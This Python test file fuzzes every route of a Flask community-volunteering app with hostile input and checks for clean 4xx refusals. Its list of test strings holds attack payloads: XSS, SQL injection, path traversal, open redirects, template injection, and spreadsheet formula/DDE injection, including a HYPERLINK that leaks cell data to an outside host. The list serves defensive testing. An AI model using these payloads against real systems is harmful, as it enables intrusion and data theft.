"""What a hostile tester throws: NUL bytes, control characters, numbers beyond 64 bits, files and JSON where text
belongs, dates at the ends of the calendar, strings no one types. Each is refused with a 4xx or a message beside
the field; nothing is stored and nothing personal is logged. Then every route of the app, on each database, takes
random hostile input in each of its query parameters, form fields and path parts, and never answers 500."""
import datetime
import io
import os
import re
from pathlib import Path

import pytest
from flask import url_for
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from wtforms.fields.core import UnboundField

from blueprints.orgs.operations import create_invite
from core.forms import Form
from core.limits import limiter
from core.timeutil import local_now
from core.uploads import write
from models import Assignment, Category, CheckIn, District, Event, Organization, Proposal, ProposalFile, Signup, User
from models.campaigns import MonthEntry
from tests.conftest import PASSWORD, login
from tests.test_campaigns import campaign_form, make_campaign
from tests.test_month_calendar import make_month as make_partner_month
from tests.test_month_setup import month_form
from tests.test_partners import route_world as partner_routes
from tests.test_project_reports import project_report_paths
from tests.test_recap import make_month
from tests.test_reports import report_routes
from tests.test_results import results_world
from tests.test_signals import signal_routes
from tests.test_volunteer_code import signed_code

ROOT = Path(__file__).resolve().parent.parent
#: Examples per route and database: a few seconds in all; HOSTILE_EXAMPLES=500 for a long hunt.
EXAMPLES = int(os.environ.get("HOSTILE_EXAMPLES", "8"))
MINUTE, DAY = datetime.timedelta(minutes=1), datetime.timedelta(days=1)
HIDDEN_CHARACTERS = "内容里有看不见的特殊字符"
NOT_TEXT = "这里请填写文字，不能上传文件"


def text(response):
    return response.get_data(as_text=True)


def field_block(html, name):
    """The form field ``name`` with its label and the messages beside it."""
    at = html.index(f'name="{name}"')
    start = html.rindex('<div class="field', 0, at)
    end = html.find('<div class="field', at)
    return html[start:end if end != -1 else len(html)]


@pytest.fixture
def world(app, make_user, make_org, make_event, tmp_path):
    """An organization with its admin and a volunteer, its street's moderator, the district admin, a signed-in
    stranger; a pending organization; events in each state a route acts on; a sign-up, a check-in, an invitation."""
    org_admin = make_user(name="组织管理员")
    org = make_org("xinhua", admin=org_admin)
    volunteer = make_user(name="志愿者")
    org.memberships.model.create(user=volunteer, organization=org, role="volunteer")
    users = {
        "org_admin": org_admin, "volunteer": volunteer, "member": make_user(name="居民用户"),
        "moderator": make_user("street_moderator", street="xinhua"), "district_admin": make_user("district_admin"),
        "reviewer": make_user("reviewer", district=District.get(District.code == "310105")),
        "partner": make_user("partner", district=District.get(District.code == "310105"), affiliation="长宁公益基金会"),
    }
    open_now = make_event(org, starts_in=-10 * MINUTE, hours=2, capacity=10)  # check-in is open
    upcoming = make_event(org, starts_in=3 * DAY, signup_enabled=True, capacity=10)
    with app.app_context():
        invite = create_invite(org, org_admin)
    campaign = make_campaign(users["district_admin"], published=True)
    app.config["UPLOAD_DIR"] = str(tmp_path / "uploads")
    proposal = Proposal.create(campaign=campaign, organization=org, created_by=org_admin)
    with app.app_context():
        stored = write(b"%PDF-1.4 test", "pdf", "a.pdf")
    attachment = ProposalFile.create(proposal=proposal, key=stored.key, kind="pdf", size=stored.size,
                                     original_name="a.pdf", sha256=stored.sha256)
    # An eligible proposal with a file, assigned to the reviewer: their scoring sheet.
    eligible = Proposal.create(campaign=campaign, organization=org, status="eligible", title="评审中")
    with app.app_context():
        scored = write(b"%PDF-1.4 scored", "pdf", "b.pdf")
    scored_file = ProposalFile.create(proposal=eligible, key=scored.key, kind="pdf", size=scored.size,
                                      original_name="b.pdf", sha256=scored.sha256)
    sheet = Assignment.create(proposal=eligible, reviewer=users["reviewer"])
    values = {
        "proposal_id": proposal.id, "file_id": attachment.id, "section": "basics",
        "event_id": open_now.id, "org_id": org.id, "invite_id": invite.id, "slug": "xinhua", "code": "en",
        "user_id": users["moderator"].id, "token": open_now.checkin_token,
        "checkin_id": CheckIn.create(event=open_now, name="居民", phone="13600000001", number=1).id,
        "campaign_id": campaign.id, "assignment_id": sheet.id,
        "shift_id": open_now.shifts.model.create(event=open_now, volunteer=volunteer).id,
    }
    signup = Signup.create(event=upcoming, name="居民", phone="13600000000")
    results = results_world(users["district_admin"], org, users["reviewer"])
    decided = make_campaign(users["district_admin"], published=True)
    decided.results_published_at = decided.created_at
    decided.save()
    project = Proposal.create(campaign=decided, organization=org, title="项目", decision="funded", amount_granted=1)
    special = {
        "orgs.admit": {"org_id": make_org("xinhua", status="pending").id},
        "orgs.decline": {"org_id": make_org("xinhua", status="pending").id},
        "orgs.join": {"token": invite.token},
        "events.submit": {"event_id": make_event(org, status="draft").id},
        "events.publish": {"event_id": make_event(org, status="submitted").id},
        "events.return_": {"event_id": make_event(org, status="submitted").id},
        "events.signup": {"event_id": upcoming.id},
        "events.detail": {"event_id": upcoming.id},
        "events.my_signup": {"token": signup.token},
        "campaigns.publish": {"campaign_id": make_campaign(users["district_admin"]).id},
        **month_entries(app, users["district_admin"], org, make_org),
        **partner_routes(users["district_admin"], org, users["member"]),
        **dict.fromkeys(("month.totals", "month.poster"),
                        {"campaign_id": make_partner_month(users["district_admin"]).id}),
        **{endpoint: {"campaign_id": results["campaign"].id} for endpoint in (
            "results.ranking", "results.public", "results.object", "results.objections", "results.export")},
        "results.decide": {"proposal_id": results["staged"].id},
        **dict.fromkeys(("recap.summary", "recap.export"), {"campaign_id": make_month(users["district_admin"]).id}),
        "results.handle": {"objection_id": results["objection"].id},
        "reviews.download": {"file_id": scored_file.id},
        "projects.detail": {"proposal_id": project.id},
        "projects.link": {"proposal_id": project.id},
        "projects.unlink": {"proposal_id": project.id, "event_id": make_event(org, project=project).id},
        "events.cancel_my_signup": {"token": signup.token},
        "year.page": {"year": 2026},
        **dict.fromkeys(("admin.accounts_export", "admin.audit_export", "street_audit.export_street"), {"fmt": "csv"}),
        **dict.fromkeys(EXPORTS, {"fmt": "csv"}),
        "shifts.by_code": {"signed": signed_code(app, open_now)},
        **{endpoint: {name: value} for (endpoint, name), value in report_routes(app, org, make_event).items()},
        **{endpoint: {name: value} for (endpoint, name), value in signal_routes(org, make_event).items()},
        **project_report_paths(org, users["district_admin"]),
    }
    return users, values, special


def month_entries(app, admin, org, make_org):
    """A month taking sign-ups, with a cover; ``org``'s sign-up and one of Xinhua's to decide on."""
    with app.app_context():
        cover = write(b"\xff\xd8\xff\xe0 cover", "jpeg", "cover.jpg")
    month = make_month(admin, cover_key=cover.key)
    entries = [MonthEntry.create(campaign=month, organization=o, theme="主题", planned_events=1, contact_name="王",
                                 contact_phone="13812345678") for o in (org, make_org("xinhua"))]
    return {
        **{endpoint: {"campaign_id": month.id}
           for endpoint in ("campaigns.cover", "entries.signup", "entries.withdraw")},
        **{endpoint: {"entry_id": entries[1].id} for endpoint in ("entries.confirm", "entries.return_")},
    }


def month_values(endpoint, values):
    """What the month's form and the sign-up form send."""
    return {
        "campaigns.create_month": month_form(),
        "entries.signup": {"theme": "社区长者健康月", "planned_events": "4", "organization": str(values["org_id"])},
        "entries.withdraw": {"organization": str(values["org_id"])},
    }.get(endpoint, {})


#: The consoles' lists as spreadsheets (tests/test_console_exports.py), each answering ``fmt`` csv or xlsx.
EXPORTS = ("orgs.street_list_export", "signals.street_export", "signals.district_export", "admin.streets_export",
           "stats.street_export", "stats.district_export", "streets.overdue_export")


#: The street's list of its organizations and the record it keeps on each one.
ORG_RECORD = dict.fromkeys(
    ("orgs.street_list", "orgs.profile", "orgs.set_grade", "orgs.record_annual_report", "orgs.add_note"),
    {"note": "走访核实", "grade": "3A", "year": "2025", "filed": "yes", "text": "走访", "field": "elderly",
     "signal": "open", "kind": "community"},
)
ORG_RECORD["orgs.set_status"] = {"status": "flagged", "note": "走访核实"}
ORG_RECORD["orgs.street_list_export"] = ORG_RECORD["orgs.street_list"]


def valid_values(world, endpoint):
    """What a well-meaning visitor would send to ``endpoint``: the starting point each hostile value replaces."""
    users, values, special = world
    tomorrow = (local_now() + DAY).date().isoformat()
    street_id = str(Organization.get_by_id(values["org_id"]).street_id)
    common = {
        "name": "李秀英", "phone": "13812341234", "consent": "y", "minor": "", "key": "k" * 22, "t": "",
        "one_tap": "", "reason": "场地临时维修", "next": "/events/", "csrf_token": "",
        "password": "long-enough-2026", "confirm": "long-enough-2026", "current": PASSWORD, "remember": "y",
        "title": "银发太极拳", "category": "elderly", "date": tomorrow, "start_time": "14:00", "end_time": "16:00",
        "venue": "愚园路 1000 号", "street": street_id, "description": "请穿运动鞋", "capacity": "30",
        "signup_enabled": "y", "checkin_mode": "static", "checkin_lead_minutes": "30",
        "kind": "community", "credit_code": "", "service_fields": "elderly", "party_org": "none",
        "contact_name": "王老师", "contact_phone": "13812345678", "role": "street_moderator", "active": "1",
        "item": str(special["events.publish"]["event_id"]), "q": "李", "status": "active", "page": "2",
        "when": "week", "full": "1", "event": str(values["event_id"]), "project": "",
        "section": "attendance", "attendance": "3", "beneficiaries": "20", "problems": "时间太短",
        "progress": "开展探访 40 次", "spending": "物资 200 元", "spent": "200.50", "next_steps": "增加助餐",
    }
    if endpoint.startswith("campaigns."):
        common.update(campaign_form())
    common.update(month_values(endpoint, values))
    common.update(ORG_RECORD.get(endpoint, {}))
    if endpoint == "campaigns.extend":
        common.update(organization=str(values["org_id"]), until=(local_now() + 40 * DAY).date().isoformat())
    if endpoint.startswith("proposals."):
        category = Category.select().where(Category.campaign == values["campaign_id"]).first()
        common.update(
            category=str(category.id), service_field="elderly", beneficiaries="独居老人", starts_on=tomorrow,
            ends_on=tomorrow, beneficiary_count="100", total_budget="100000", amount_requested="80000",
            budget_items="场地 3000", summary="简介", needs="需求", plan="计划", outcomes="成效", team="团队",
            organization=str(values["org_id"]),
        )
    if endpoint.startswith("reviews."):
        common.update(per_proposal="3", reviewer=str(users["reviewer"].id), organization=str(values["org_id"]),
                      note="曾任该组织理事")
    if endpoint == "reviews.score":
        common.update({"action": "submit", "comment": "总体不错", **{f"criterion-{n}-score": "8" for n in range(6)}})
    if endpoint.startswith("results."):
        common.update(decision="funded", amount="500", text="该项目去年没有结项", reply="已电话回复")
    if endpoint.startswith("partners."):
        common.update(kind="need", category="volunteers", deadline=tomorrow, message="我们可以提供 5 名志愿者",
                      organization=str(values["org_id"]), campaign="")
    if endpoint == "events.list":
        common["street"] = "xinhua"
    if endpoint == "auth.login":
        common.update(phone=users["org_admin"].phone, password=PASSWORD)
    return common


CAMPAIGN_FIELDS = (
    "name", "description", "application_opens", "application_closes", "eligibility_ends", "review_ends",
    "notice_starts", "notice_ends", "results_on", "budget", "categories", "criteria", "scoring", "blind_review",
    "show_others", "max_proposals_per_org", "objection_contact",
)
MONTH_FIELDS = ("name", "theme", "starts_on", "ends_on", "signup_opens", "signup_closes", "description", "cover")
PROPOSAL_FIELDS = (
    "title", "category", "service_field", "beneficiaries", "street", "starts_on", "ends_on", "beneficiary_count",
    "total_budget", "amount_requested", "budget_items", "summary", "needs", "plan", "outcomes", "team",
)
#: A need or offer of 资源对接.
NEED_FIELDS = ("organization", "kind", "category", "title", "description", "street", "deadline", "contact_name",
               "contact_phone")
#: The scoring sheet: 保存 or 提交评分, the overall comment, each criterion's score and comment (its form's fields
#: are ``score`` and ``comment``, sent as ``criterion-<n>-score``).
SCORE_FIELDS = ("action", "comment", "score",
                *(f"criterion-{n}-{name}" for n in range(6) for name in ("score", "comment")))
#: The audit log's search (and its exports'): who, what, object, Shanghai dates, the page.
AUDIT_SEARCH = ("who", "action", "target_type", "target_id", "from", "to", "page")
#: endpoint → (who sends it, the query parameters and form fields it reads). A route without its row fails
#: test_every_route_has_a_row; a field or parameter the code reads and no row names fails
#: test_every_field_and_parameter_the_code_reads_is_thrown_at.
ROUTES = {
    "main.home": ("anonymous", ()),
    "main.healthz": ("anonymous", ()),
    "main.offline": ("anonymous", ()),
    "main.manifest": ("anonymous", ()),
    "main.service_worker": ("anonymous", ()),
    "main.set_language": ("anonymous", ("next",)),
    "main.toggle_elder_mode": ("anonymous", ("next",)),
    "auth.login": ("anonymous", ("phone", "password", "remember", "next")),
    "auth.logout": ("org_admin", ("next",)),
    "auth.logout_everywhere": ("org_admin", ("next",)),
    "auth.signup": ("anonymous", ("name", "phone", "password", "confirm", "next")),
    "auth.change_password": ("org_admin", ("current", "password", "confirm")),
    "auth.forgot_password": ("anonymous", ()),
    "auth.reset_password": ("district_admin", ("next",)),
    "orgs.create": ("member", ("name", "kind", "credit_code", "street", "service_fields", "party_org",
                               "contact_name", "contact_phone")),
    "orgs.detail": ("anonymous", ()),
    "orgs.manage": ("org_admin", ("status", "page")),
    "orgs.create_invite_link": ("org_admin", ()),
    "orgs.invite_qr": ("org_admin", ()),
    "orgs.join": ("member", ()),
    "orgs.admit": ("moderator", ()),
    "orgs.decline": ("moderator", ("reason",)),
    "orgs.add": ("moderator", ("name", "kind", "credit_code", "street", "service_fields", "party_org",
                               "contact_name", "contact_phone")),
    "orgs.street_list": ("moderator", ("q", "status", "kind", "field", "grade", "signal", "page")),
    "orgs.profile": ("moderator", ("page",)),
    "orgs.set_status": ("moderator", ("status", "note")),
    "orgs.set_grade": ("moderator", ("grade", "year", "note")),
    "orgs.record_annual_report": ("moderator", ("year", "filed", "note")),
    "orgs.add_note": ("moderator", ("text",)),
    "streets.console": ("moderator", ("q", "status", "page", "event_q", "events_after")),
    "events.list": ("anonymous", ("street", "when", "kind", "page", "month")),
    "events.detail": ("anonymous", ()),
    "events.calendar": ("anonymous", ()),
    "events.signup": ("anonymous", ("name", "phone", "consent")),
    "events.my_signup": ("anonymous", ("confirm",)),
    "events.cancel_my_signup": ("anonymous", ()),
    "events.create": ("org_admin", ("title", "category", "date", "start_time", "end_time", "venue", "street",
                                    "description", "capacity", "signup_enabled", "checkin_mode",
                                    "checkin_lead_minutes", "project", "campaign")),
    "events.edit": ("org_admin", ("title", "category", "date", "start_time", "end_time", "venue", "street",
                                  "description", "capacity", "signup_enabled", "checkin_mode",
                                  "checkin_lead_minutes", "project", "campaign")),
    "events.manage": ("org_admin", ()),
    "events.submit": ("org_admin", ()),
    "events.cancel": ("org_admin", ("reason",)),
    "events.copy": ("org_admin", ()),
    "events.publish": ("moderator", ()),
    "events.return_": ("moderator", ("reason",)),
    "events.publish_many": ("moderator", ("item",)),
    "checkins.scan": ("anonymous", ("t",)),
    "checkins.submit": ("anonymous", ("name", "phone", "minor", "consent", "key", "t", "one_tap")),
    "checkins.not_me": ("anonymous", ("t",)),
    "checkins.me": ("anonymous", ("confirm",)),
    "checkins.erase_me": ("anonymous", ()),
    "checkins.qr_png": ("org_admin", ()),
    "checkins.qr_svg": ("org_admin", ()),
    "checkins.poster": ("org_admin", ()),
    "checkins.poster_png": ("org_admin", ()),
    "checkins.screen": ("org_admin", ()),
    "checkins.manage": ("org_admin", ("q", "before")),
    "checkins.count": ("org_admin", ("v", "roster", "q")),
    "checkins.manual": ("volunteer", ("name", "phone", "key", "q")),
    "checkins.undo_checkin": ("org_admin", ("reason",)),
    "checkins.export_csv": ("org_admin", ("full",)),
    "checkins.export_xlsx": ("org_admin", ("full",)),
    "shifts.start": ("volunteer", ()),
    "shifts.stop": ("volunteer", ()),
    "shifts.roster": ("org_admin", ()),
    "shifts.export": ("org_admin", ()),
    "shifts.correct": ("org_admin", ("hours", "reason")),
    "shifts.code_png": ("org_admin", ()),
    "shifts.code_sheet": ("org_admin", ()),
    "shifts.by_code": ("volunteer", ()),
    "shifts.org_hours": ("org_admin", ("from", "to")),
    "shifts.org_hours_csv": ("org_admin", ("from", "to")),
    "reports.edit": ("org_admin", ()),
    "reports.save": ("org_admin", ("section", "attendance", "attendance_reason", "beneficiaries", "outcomes",
                                   "problems")),
    "reports.upload": ("org_admin", ("photo",)),
    "reports.photo": ("volunteer", ()),
    "reports.delete_photo": ("org_admin", ()),
    "reports.submit": ("org_admin", ()),
    "reports.accept": ("moderator", ()),
    "reports.return_": ("moderator", ("reason",)),
    "signals.street": ("moderator", ("kind", "status", "page")),
    "signals.close": ("moderator", ("note",)),
    "signals.refresh_street": ("moderator", ()),
    "signals.district": ("district_admin", ()),
    "signals.refresh_district": ("district_admin", ()),
    "campaigns.list": ("anonymous", ()),
    "campaigns.detail": ("anonymous", ()),
    "month.tag": ("org_admin", ("campaign",)),
    "month.untag": ("org_admin", ()),
    "month.totals": ("anonymous", ()),
    "month.poster": ("anonymous", ()),
    "campaigns.create": ("district_admin", CAMPAIGN_FIELDS),
    "campaigns.edit": ("district_admin", CAMPAIGN_FIELDS),
    "campaigns.publish": ("district_admin", ()),
    "campaigns.extend": ("district_admin", ("organization", "until")),
    "campaigns.create_month": ("district_admin", MONTH_FIELDS),
    "campaigns.cover": ("anonymous", ()),
    "entries.signup": ("org_admin", ("organization", "theme", "planned_events", "contact_name", "contact_phone")),
    "entries.withdraw": ("org_admin", ("organization",)),
    "entries.confirm": ("moderator", ()),
    "entries.return_": ("moderator", ("reason",)),
    "proposals.start": ("org_admin", ("organization",)),
    "proposals.detail": ("org_admin", ()),
    "proposals.save_section": ("org_admin", PROPOSAL_FIELDS),
    "proposals.submit": ("org_admin", ()),
    "proposals.withdraw": ("org_admin", ()),
    "proposals.upload": ("org_admin", ("file",)),
    "proposals.delete_file": ("org_admin", ()),
    "proposals.download": ("org_admin", ()),
    "proposals.resubmit": ("org_admin", ()),
    "proposals.eligible": ("moderator", ()),
    "proposals.ineligible": ("moderator", ("reason",)),
    "proposals.return_": ("moderator", ("reason", "revise_by")),
    "proposals.checks": ("district_admin", ("street",)),
    "partners.board": ("anonymous", ("kind", "category", "street")),
    "partners.create": ("org_admin", ("campaign", *NEED_FIELDS)),
    "partners.detail": ("anonymous", ()),
    "partners.edit": ("org_admin", NEED_FIELDS),
    "partners.respond": ("partner", ("message", "contact_name", "contact_phone")),
    "partners.match": ("org_admin", ()),
    "partners.publish": ("moderator", ()),
    "partners.return_": ("moderator", ("reason",)),
    "projects.detail": ("anonymous", ()),
    "projects.link": ("org_admin", ("event",)),
    "projects.unlink": ("org_admin", ()),
    "project_reports.edit": ("org_admin", ()),
    "project_reports.save": ("org_admin", ("progress", "spending", "spent", "beneficiaries", "next_steps")),
    "project_reports.submit": ("org_admin", ("progress", "spending", "spent", "beneficiaries", "next_steps")),
    "project_reports.queue": ("district_admin", ()),
    "project_reports.accept": ("district_admin", ()),
    "project_reports.return_": ("district_admin", ("reason",)),
    "reviews.assignments": ("district_admin", ()),
    "reviews.auto_assign": ("district_admin", ("per_proposal",)),
    "reviews.add_reviewer": ("district_admin", ("reviewer",)),
    "reviews.remove_reviewer": ("district_admin", ()),
    "reviews.conflicts": ("reviewer", ("organization", "note")),
    "reviews.mine": ("reviewer", ()),
    "reviews.score": ("reviewer", SCORE_FIELDS),
    "reviews.download": ("reviewer", ()),
    "reviews.progress": ("district_admin", ()),
    "results.ranking": ("district_admin", ()),
    "results.decide": ("district_admin", ("decision", "amount")),
    "results.publish": ("district_admin", ()),
    "results.public": ("anonymous", ()),
    "results.object": ("anonymous", ("name", "phone", "project", "text")),
    "results.objections": ("district_admin", ()),
    "results.handle": ("district_admin", ("reply",)),
    "results.export": ("district_admin", ()),
    "recap.summary": ("district_admin", ()),
    "recap.export": ("district_admin", ()),
    "year.page": ("org_admin", ()),
    "year.current": ("org_admin", ()),
    "admin.console": ("district_admin", ()),
    "stats.district": ("district_admin", ()),
    "stats.street": ("moderator", ()),
    "admin.accounts": ("district_admin", ("role", "street", "name", "phone", "password", "affiliation")),
    "admin.set_active": ("district_admin", ("active",)),
    "admin.move_street": ("district_admin", ("street",)),
    "admin.accounts_export": ("district_admin", ()),
    **dict.fromkeys(("admin.audit", "admin.audit_export"), ("district_admin", AUDIT_SEARCH)),
    **dict.fromkeys(("street_audit.log", "street_audit.export_street"), ("moderator", AUDIT_SEARCH)),
    "orgs.street_list_export": ("moderator", ("q", "status", "kind", "field", "grade", "signal")),
    "signals.street_export": ("moderator", ("kind", "status")),
    "signals.district_export": ("district_admin", ("kind",)),
    "admin.streets_export": ("district_admin", ()),
    "stats.street_export": ("moderator", ("chart",)),
    "stats.district_export": ("district_admin", ("chart",)),
    "streets.overdue_export": ("moderator", ()),
}

#: Sent to every route as well: every form carries the CSRF token, and many pages a ``next``.
EVERYWHERE = ("csrf_token", "next")

#: Strings a hostile tester tries first.
NASTY = [
    "\x00", "李\x00秀英", "\x01", "\x1b[31m", "\x7f", "\x85", "\x9f", "\ufffe", "\uffff", "\u202e英秀李", "\u2028",
    "\t", "\r", "\n", "\r\n", "李\r秀英", " ", "",
    '=HYPERLINK("//x.cn/?"&C3,"查看")', "+86", "-1", "@SUM(1)", "=1+1",
    "0", "-0", "99999999999999999999", str(2**63), str(2**63 - 1), str(-(2**63) - 1), "1e309", "NaN", "²", "١٢٣",
    "１２３", "0001-01-01", "9999-12-31", "10000-01-01", "2026-02-30", "24:00", "23:59:60",
    "长" * 300, "A" * 5000, "𠀀" * 50, "😀", "<script>alert(1)</script>", "' OR 1=1 --", "%00", "../../etc/passwd",
    "//evil.example", "/\\evil.example", "{{7*7}}",
]
HOSTILE = st.one_of(
    st.sampled_from(NASTY),
    st.text(st.characters(exclude_categories=("Cs",)), max_size=60),
    st.integers(min_value=-(2**70), max_value=2**70).map(str),
)
#: Hostile text for a path part: some text, so that the URL still has the part.
HOSTILE_PART = HOSTILE.filter(bool)


def rule_of(app, endpoint):
    return next(rule for rule in app.url_map.iter_rules() if rule.endpoint == endpoint)


def test_every_route_has_a_row(app):
    endpoints = {rule.endpoint for rule in app.url_map.iter_rules() if rule.endpoint != "static"}
    assert endpoints - set(ROUTES) == set(), "add these routes to ROUTES in tests/test_hostile.py"
    assert set(ROUTES) - endpoints == set(), "these rows of ROUTES name routes that no longer exist"


def form_classes(cls=Form):
    for sub in cls.__subclasses__():
        yield sub
        yield from form_classes(sub)


def test_every_field_and_parameter_the_code_reads_is_thrown_at():
    thrown = {name for _, names in ROUTES.values() for name in names} | set(EVERYWHERE)
    fields = {
        name for cls in form_classes() for name in dir(cls) if isinstance(getattr(cls, name, None), UnboundField)
    }
    sources = [*ROOT.glob("blueprints/**/*.py"), *ROOT.glob("core/*.py")]
    read = {
        name for path in sources
        for name in re.findall(r"request\.(?:args|form|values)\.(?:get|getlist)\(\s*[\"'](\w+)[\"']", path.read_text())
    }
    assert fields, "the forms were not found"
    assert (fields | read) - thrown == set(), "name these in ROUTES in tests/test_hostile.py"


# --- the cases the tester reported ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url", ["/c/%00", "/join/%00", "/signups/%00", "/streets/%00/", "/lang/%00", "/events/%00", "/nowhere%01"]
)
def test_a_control_character_in_the_path_is_a_bad_request(client, world, url):
    response = client.get(url)
    assert response.status_code == 400
    assert "请求有误" in text(response)


@pytest.mark.parametrize(
    "query", ["street=%00", "street=x%01", "page=%00", "kind%00=1", "when=%1b", "next=/events/%00"]
)
def test_a_control_character_in_the_query_is_a_bad_request(client, query):
    assert client.get(f"/events/?{query}").status_code == 400


def test_a_nul_byte_in_a_form_is_a_bad_request_and_nothing_is_stored_or_logged(client, world, caplog):
    _, _, special = world
    url = f"/events/{special['events.signup']['event_id']}/signup"
    response = client.post(url, data={"name": "李\x00秀英", "phone": "13812349876", "consent": "y"})
    assert response.status_code == 400
    assert Signup.select().where(Signup.phone == "13812349876").count() == 0
    assert "13812349876" not in caplog.text and "秀英" not in caplog.text


def test_a_nul_byte_in_a_cookie_is_a_bad_request(client):
    client.set_cookie("did", "abc\x00")
    assert client.get("/me/").status_code == 400


def test_a_control_character_in_a_name_is_explained_beside_the_field_which_shows_the_name_without(client, world):
    _, _, special = world
    url = f"/events/{special['events.signup']['event_id']}/signup"
    response = client.post(url, data={"name": "李\x1b秀英\u202e", "phone": "13812349876", "consent": "y"})
    html = text(response)
    assert response.status_code == 422
    assert HIDDEN_CHARACTERS in field_block(html, "name")
    assert re.search(r'name="name"[^>]*value="李秀英"', html)
    assert Signup.select().where(Signup.phone == "13812349876").count() == 0


def test_tabs_and_line_breaks_in_a_one_line_field_become_spaces(client, world):
    _, _, special = world
    url = f"/events/{special['events.signup']['event_id']}/signup"
    response = client.post(url, data={"name": "李\t秀\r\n英", "phone": "13812349876", "consent": "y"})
    assert response.status_code == 303
    assert Signup.get(Signup.phone == "13812349876").name == "李 秀 英"


def test_a_text_area_keeps_its_lines_and_loses_control_characters_even_unvalidated(client, world):
    users, values, _ = world
    login(client, users["org_admin"])
    response = client.post(f"/events/{values['event_id']}/cancel", data={"reason": "下雨\r\n改期\x08"})
    assert response.status_code == 303
    assert Event.get_by_id(values["event_id"]).cancel_reason == "下雨\r\n改期"


@pytest.mark.parametrize("field", ["name", "phone", "consent"])
def test_a_file_where_text_belongs_is_refused_beside_the_field(client, world, field):
    _, _, special = world
    url = f"/events/{special['events.signup']['event_id']}/signup"
    data = {"name": "李秀英", "phone": "13812349876", "consent": "y", field: (io.BytesIO(b"=1+1"), "a.txt")}
    response = client.post(url, data=data, content_type="multipart/form-data")
    assert response.status_code == 422
    assert NOT_TEXT in field_block(text(response), field)
    assert Signup.select().where(Signup.phone == "13812349876").count() == 0


@pytest.mark.parametrize("field", ["title", "date", "start_time", "capacity", "checkin_lead_minutes", "street"])
def test_a_file_in_any_field_of_the_event_form_is_refused(client, world, field):
    users, values, _ = world
    login(client, users["org_admin"])
    data = {**valid_values(world, "events.create"), field: (io.BytesIO(b"x"), "a.txt")}
    response = client.post(f"/orgs/{values['org_id']}/events/new", data=data, content_type="multipart/form-data")
    assert response.status_code == 422
    assert NOT_TEXT in field_block(text(response), field)
    assert Event.select().where(Event.title == "银发太极拳").count() == 0


def test_a_json_body_is_no_form(client, world):
    _, _, special = world
    url = f"/events/{special['events.signup']['event_id']}/signup"
    response = client.post(url, json={"name": ["李"], "phone": 13812349876, "consent": {"y": 1}})
    assert response.status_code == 422
    assert Signup.select().where(Signup.phone == "13812349876").count() == 0


@pytest.mark.parametrize(
    "path",
    ["/events/{}", "/events/{}/calendar.ics", "/orgs/{}/", "/events/{}/manage", "/events/{}/checkins.csv",
     "/streets/xinhua/events/{}/publish"],
)
@pytest.mark.parametrize("number", [2**63, 10**20, 2**63 - 1])
def test_an_id_beyond_what_a_database_holds_is_not_found(client, world, path, number):
    users, _, _ = world
    login(client, users["moderator"])
    url = path.format(number)
    response = client.post(url) if url.endswith("publish") else client.get(url)
    assert response.status_code == 404


def test_a_page_beyond_what_a_database_counts_is_an_empty_page(client, world):
    users, _, _ = world
    assert client.get("/events/?page=99999999999999999999").status_code == 200
    assert client.get(f"/events/?page={2**63}", headers={"HX-Request": "true"}).status_code == 200
    login(client, users["moderator"])
    assert client.get("/streets/xinhua/?page=99999999999999999999").status_code == 200


@pytest.mark.parametrize("item", ["99999999999999999999", "²", "①"])
def test_a_ticked_item_that_is_no_id_publishes_nothing(client, world, item):
    users, _, special = world
    login(client, users["moderator"])
    response = client.post("/streets/xinhua/events/publish", data={"item": [item]})
    assert response.status_code == 303
    assert Event.get_by_id(special["events.publish"]["event_id"]).status == "submitted"


@pytest.mark.parametrize("street", ["99999999999999999999", "²"])
def test_a_street_that_is_no_id_is_refused_for_a_new_moderator(client, world, street):
    users, _, _ = world
    login(client, users["district_admin"])
    data = {"role": "street_moderator", "street": street, "name": "王", "phone": "13812345678",
            "password": "long-enough-2026"}
    assert client.post("/admin/accounts", data=data).status_code == 422
    assert not User.select().where(User.phone == "13812345678").exists()


# --- every route, random hostile input ---------------------------------------------------------------------------


def request_for(app, world, endpoint, data):
    """A request to ``endpoint``: each path part, parameter and field is either what a visitor would send or a
    hostile value; sometimes a file stands where text belongs, sometimes a field comes twice."""
    _, values, special = world
    rule = rule_of(app, endpoint)
    valid = valid_values(world, endpoint)
    names = (*sorted(rule.arguments), *ROUTES[endpoint][1], *EVERYWHERE)
    # Mostly one or two hostile values among valid ones: the others must pass for the request to get far.
    hostile = data.draw(st.sets(st.sampled_from(names)), label="hostile")
    path = {name: {**values, **special.get(endpoint, {})}[name] for name in rule.arguments}
    for name in sorted(hostile & rule.arguments):
        if f"<int:{name}>" in rule.rule:
            path[name] = data.draw(st.sampled_from([0, 2**31, 2**63 - 1, 2**63, 10**30]), label=name)
        else:
            path[name] = data.draw(HOSTILE_PART, label=name)
    with app.test_request_context():
        url = url_for(endpoint, **path)
    fields = {}
    for name in names[len(rule.arguments):]:
        if name in hostile:
            fields[name] = data.draw(st.one_of(HOSTILE, st.lists(HOSTILE, min_size=2, max_size=3)), label=name)
        elif valid.get(name):
            fields[name] = valid[name]
    method = data.draw(st.sampled_from(sorted(rule.methods & {"GET", "POST"})), label="method")
    if method == "POST" and fields and data.draw(st.booleans(), label="a file"):
        name = data.draw(st.sampled_from(sorted(fields)), label="file in")
        fields[name] = (io.BytesIO(b"\x00=cmd|' /C calc'!A0"), "a.csv")
    return method, url, fields


@pytest.mark.parametrize("endpoint", sorted(ROUTES))
@settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_hostile_input_never_answers_500(app, world, endpoint, data):
    method, url, fields = request_for(app, world, endpoint, data)
    client = app.test_client()  # a new browser each time: no session or cookie left by the previous example
    with app.app_context():
        limiter.reset()  # or the limits would answer 429 before most examples reach anything worth attacking
    role = ROUTES[endpoint][0]
    if role != "anonymous":
        login(client, world[0][role])
    response = client.get(url, query_string=fields) if method == "GET" else client.post(url, data=fields)
    response.close()  # a download holds its file open until then
    assert response.status_code < 500, f"{method} {url} {fields!r}"


def test_the_sweep_reaches_what_it_attacks(app, client, world):
    """The valid values of the sweep get through: each hostile value is tried where it can do harm."""
    users, values, _ = world
    login(client, users["org_admin"])
    response = client.post(f"/orgs/{values['org_id']}/events/new", data=valid_values(world, "events.create"))
    assert response.status_code == 303
    response = app.test_client().post(
        f"/events/{world[2]['events.signup']['event_id']}/signup", data=valid_values(world, "events.signup")
    )
    assert response.status_code == 303
